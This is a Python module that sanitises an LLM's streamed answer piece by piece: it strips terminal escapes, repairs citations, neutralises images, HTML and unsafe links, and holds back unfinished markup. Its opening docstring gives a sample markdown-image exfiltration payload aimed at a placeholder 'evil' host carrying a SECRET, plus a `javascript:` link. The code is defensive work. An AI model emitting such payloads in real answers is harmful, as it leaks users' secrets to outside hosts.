"""Streamed answers as safe as whole ones: sanitise the text so far, hold back what is unfinished.

An LLM splits `![x](https://evil/?q=SECRET)` or `<a href="javascript:…">` over many
pieces, so no piece on its own looks unsafe. `SafeStream` keeps the whole text so
far and, on every piece, renders it the way the final answer is rendered:

1. terminal control sequences go (`safety.terminal_safe`),
2. citations to no listed source are dropped (`safety.repair_citations`),
3. images, HTML, comments and non-http(s) links are neutralised (`safety.safe_markdown`),
4. numbers no cited source supports are flagged (`numbers.check_by_sentence`).

It releases only the part that later text cannot change: never a partial word, an
unfinished `[link](…`, `![image`, `<tag`, `<!-- comment`, reference line or escape
sequence, nor a sentence whose numbers still wait for their citation. What it has
released is always a prefix of the final text, so every surface can print deltas as
they come and end with exactly the final answer.
"""

from __future__ import annotations

import logging
import re
from collections.abc import Sequence
from dataclasses import dataclass, field

from advisor.numbers import check_by_sentence
from advisor.records import Source
from advisor.safety import repair_citations, safe_markdown, terminal_safe

log = logging.getLogger(__name__)

_REF_TAIL = re.compile(r"\s*\S[^\n]*\n")
"""The rest of a reference definition `[x]: target …` up to its line end."""
_ESCAPE_START = re.compile(r"[\x1b\x90\x98\x9b\x9d-\x9f]")
_STRING_ESCAPES = "]PX^_"
"""After ESC: these start a string (OSC, DCS, ...) that runs to BEL or ST."""
REFRESH_FRACTION = 128
"""Re-render after the releasable text grew by 1/REFRESH_FRACTION of its length (or a word)."""


@dataclass(frozen=True)
class Rendered:
    """The final answer text, the sources it cites and the numbers no cited source supports."""

    text: str
    cited: frozenset[int] = frozenset()
    unsupported: tuple[str, ...] = ()


def render(raw: str, sources: Sequence[Source]) -> Rendered:
    """The whole answer made safe, as `SafeStream.finish` ends it."""
    repaired, cited = repair_citations(terminal_safe(raw), len(sources))
    check, _ = check_by_sentence(safe_markdown(repaired), sources, finished=True)
    return Rendered(check.text, frozenset(cited), check.unsupported)


@dataclass
class SafeStream:
    """Incremental sanitiser: `push` each raw piece and print what it returns, then `finish`."""

    sources: Sequence[Source]
    raw: str = ""
    sent: str = ""
    """Everything released so far (always a prefix of the final text)."""
    result: Rendered | None = None
    _cut: int = field(default=0, repr=False)

    def push(self, delta: str) -> str:
        """Add a raw piece; return the newly safe text to show (often "")."""
        if self.result is not None:
            raise RuntimeError("SafeStream.push after finish")
        self.raw += delta
        cut = _raw_cut(self.raw)
        if cut - self._cut < max(1, cut // REFRESH_FRACTION):
            return ""
        self._cut = cut
        return self._release(self._settled(self.raw[:cut]))

    def finish(self) -> str:
        """Render the whole text; return the rest of it (what `push` held back)."""
        if self.result is None:
            self.result = render(self.raw, self.sources)
        final = self.result.text
        if not final.startswith(self.sent):
            log.warning("streamed text is not a prefix of the final answer; the final text wins")
            return ""
        rest = final[len(self.sent) :]
        self.sent = final
        return rest

    def _settled(self, raw: str) -> str:
        """The rendered text of `raw` (which ends a word) up to its first unfinished part."""
        repaired, _ = repair_citations(terminal_safe(raw), len(self.sources))
        repaired = repaired[: _settle(repaired, open_at(repaired))]
        safe = safe_markdown(repaired)
        safe = safe[: _settle(safe, open_at(safe))]
        check, pending = check_by_sentence(safe, self.sources, finished=False)
        return check.text[:pending]

    def _release(self, text: str) -> str:
        if len(text) <= len(self.sent) or not text.startswith(self.sent):
            return ""
        new = text[len(self.sent) :]
        self.sent = text
        return new


def _raw_cut(raw: str) -> int:
    """End of the last word that whitespace follows, before any unfinished escape sequence."""
    end = len(raw)
    escape = _open_escape(raw)
    if escape is not None:
        end = escape
    if end == len(raw):  # the last word may still grow
        while end > 0 and not raw[end - 1].isspace():
            end -= 1
    return _settle(raw, end)


def _open_escape(text: str) -> int | None:
    """Where a terminal escape sequence that more text could still extend starts, if any."""
    for match in _ESCAPE_START.finditer(text):
        i = match.start()
        if _escape_open(text, i):
            return i
    return None


def _escape_open(text: str, i: int) -> bool:
    intro = text[i]
    j = i + 1
    if intro == "\x1b":
        if j == len(text):
            return True
        if text[j] == "[":
            intro, j = "\x9b", j + 1
        elif text[j] in _STRING_ESCAPES:
            intro, j = "\x9d", j + 1
    if intro == "\x9b":  # CSI: parameters, intermediates, then a final byte
        while j < len(text) and "\x20" <= text[j] <= "\x3f":
            j += 1
        return j == len(text)
    if intro in "\x90\x98\x9d\x9e\x9f":  # a string, ended by BEL, ST or (here) a newline
        while j < len(text) and text[j] not in "\x07\x1b\x9c\n":
            j += 1
        return j == len(text) or (text[j] == "\x1b" and j + 1 == len(text))
    while j < len(text) and "\x20" <= text[j] <= "\x2f":  # ESC, intermediates, final byte
        j += 1
    return j == len(text)


def open_at(text: str) -> int:
    """Where the first construct that later text could still change starts (else len(text))."""
    first = len(text)
    i = text.find("<")
    while 0 <= i < first:
        if _tag_open(text, i):
            first = i
            break
        i = text.find("<", i + 1)
    i = text.find("[")
    while 0 <= i < first:
        if _bracket_open(text, i):
            first = i - 1 if i and text[i - 1] == "!" else i
            break
        i = text.find("[", i + 1)
    return first


def _tag_open(text: str, i: int) -> bool:
    """Whether `<` at i may still become a tag, comment or autolink."""
    after = text[i + 1 : i + 2]
    if not after:
        return True
    if not (after.isascii() and after.isalpha()) and after not in "/!?":
        return False
    if text.startswith("<!--", i):
        return text.find("-->", i + 4) < 0
    return text.find(">", i + 1) < 0


def _bracket_open(text: str, i: int) -> bool:
    """Whether `[` at i may still become a link, image, citation or reference definition."""
    close = text.find("]", i + 1)
    if close < 0 or close + 1 == len(text):
        return True
    after = text[close + 1]
    if after == "(":
        return text.find(")", close + 2) < 0
    if after == "[":
        return text.find("]", close + 2) < 0
    if after == ":" and _line_start(text, i):
        return not _REF_TAIL.match(text, close + 2)
    return False


def _line_start(text: str, i: int) -> bool:
    """Whether at most three whitespace characters separate i from a line start."""
    j = i
    while True:
        if j == 0 or text[j - 1] == "\n":
            return True
        if i - j >= 3 or not text[j - 1].isspace():
            return False
        j -= 1


def _settle(text: str, end: int) -> int:
    """A cut at or before `end` that falls between words, without trailing whitespace."""
    if end < len(text) and not text[end].isspace():
        while end > 0 and not text[end - 1].isspace():
            end -= 1
    return len(text[:end].rstrip())
